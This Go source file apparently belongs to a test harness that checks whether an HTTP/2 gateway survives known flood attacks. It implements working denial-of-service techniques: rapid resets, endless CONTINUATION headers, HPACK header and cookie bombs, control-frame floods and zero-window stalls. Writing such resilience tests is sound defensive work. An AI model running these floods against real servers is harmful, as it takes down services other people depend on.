package floods

import (
	"bytes"
	"errors"
	"io"
	"os"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// HTTP2 are the attacks by HTTP/2.
func HTTP2() []Attack {
	return []Attack{
		{"SETTINGS", false, 4, inFrames, 15, inFlood(false, func(f *Frames) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		})},
		{"PING", false, 4, inFrames, 17, inFlood(false, func(f *Frames) error { return f.WritePing(false, [8]byte{}) })},
		{"PRIORITY", false, 4, inFrames, 14, inFlood(true, func(f *Frames) error { return f.WritePriority(1, http2.PriorityParam{StreamDep: 3}) })},
		{"WINDOW_UPDATE", false, 4, inFrames, 13, inFlood(true, func(f *Frames) error { return errors.Join(f.begun(), f.WriteWindowUpdate(1, 1)) })},
		{"empty DATA", false, 4, inFrames, 9, inFlood(true, func(f *Frames) error { return errors.Join(f.begun(), f.WriteData(1, false, nil)) })},
		{"empty CONTINUATION", false, 4, inFrames, 9, inFlood(true, func(f *Frames) error { return f.endless(nil) })},
		{"headers without an end", false, 4, inFrames, kib, inFlood(true, func(f *Frames) error {
			return f.endless(f.Encoded(Field{"x-a", strings.Repeat("a", 1000)}))
		})},
		{"rapid resets", false, 4, inStreams, 40, inFlood(true, func(f *Frames) error {
			stream := f.Next()
			return errors.Join(f.whole(stream, f.asked()), f.WriteRSTStream(stream, http2.ErrCodeCancel))
		})},
		{"resets that the gateway is made to send", false, 4, inStreams, 40, inFlood(true, func(f *Frames) error {
			stream := f.Next()
			return errors.Join(f.whole(stream, f.asked()), f.WriteWindowUpdate(stream, 0))
		})},
		{"header bombs", false, 4, inStreams, 4 * kib, inFlood(true, func(f *Frames) error { return f.bomb("x-bomb") })},
		{"small headers", false, 4, inStreams, 4 * kib, inFlood(true, func(f *Frames) error {
			return f.whole(f.Next(), append(f.asked(), bytes.Repeat([]byte{0x8f}, 4000)...)) // accept-charset, with nothing in it
		})},
		{"cookie bombs", false, 4, inStreams, 4 * kib, inFlood(true, func(f *Frames) error { return f.bomb("cookie") })},
		{"answers that are not taken", true, 10, inStreams, 30, stalled(100, "/x")},
		{"long answers that are not taken", true, 3, inStreams, 30, stalled(100, "/long")},
	}
}

// inFlood is an attack in HTTP/2: frames again and again, until the gateway closes the
// connection. Where read is false nothing that comes is read.
func inFlood(read bool, again func(f *Frames) error) func(addr string, pace func()) error {
	return func(addr string, pace func()) error {
		f, err := Open(addr)
		if err != nil {
			return err
		}
		defer f.Conn.Close()
		if err := f.Conn.SetDeadline(time.Now().Add(Patience)); err != nil {
			return err
		}
		if read {
			go io.Copy(io.Discard, f.Conn) // until it is closed
		}
		for {
			pace()
			if err := again(f); errors.Is(err, os.ErrDeadlineExceeded) {
				return unlessLasting(err)
			} else if err != nil {
				return nil
			}
		}
	}
}

// stalled is an attack in HTTP/2 that asks once, and takes nothing of what it gets.
// The gateway ends each of its streams, or the connection.
func stalled(streams int, path string) func(addr string, pace func()) error {
	return func(addr string, pace func()) error {
		f, err := Open(addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer f.Conn.Close()
		if err := f.Conn.SetDeadline(time.Now().Add(Patience)); err != nil {
			return err
		}
		for range streams {
			pace()
			if err := f.Ask(f.Next(), "GET", path, true); err != nil {
				return unlessLasting(err)
			}
		}
		for ended := 0; ended < streams; {
			frame, err := f.ReadFrame()
			if err != nil {
				return unlessLasting(err)
			}
			if _, is := frame.(*http2.RSTStreamFrame); is {
				ended++
			}
		}
		return nil
	}
}

// asked has a request's headers, as f encodes them.
func (f *Frames) asked(more ...Field) []byte {
	return f.Encoded(append([]Field{{":method", "GET"}, {":scheme", "http"}, {":authority", "a"}, {":path", "/x"}}, more...)...)
}

// whole sends a request that is nothing but a block of headers.
func (f *Frames) whole(stream uint32, block []byte) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: true})
}

// begun sends the headers of a request with a body, the first time.
func (f *Frames) begun() error {
	if f.Last > 0 {
		return nil
	}
	return f.Ask(f.Next(), "POST", "/x", false)
}

// endless sends headers whose block has no end, in pieces like this.
func (f *Frames) endless(piece []byte) error {
	if f.Last == 0 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.Next(), BlockFragment: f.asked()})
	}
	return f.WriteContinuation(1, false, piece)
}

// bomb sends a request with a long header, and a thousand references to it, a byte each.
func (f *Frames) bomb(header string) error {
	return f.whole(f.Next(), append(f.asked(Field{header, strings.Repeat("a", 3900)}), bytes.Repeat([]byte{0xbe}, 1000)...))
}
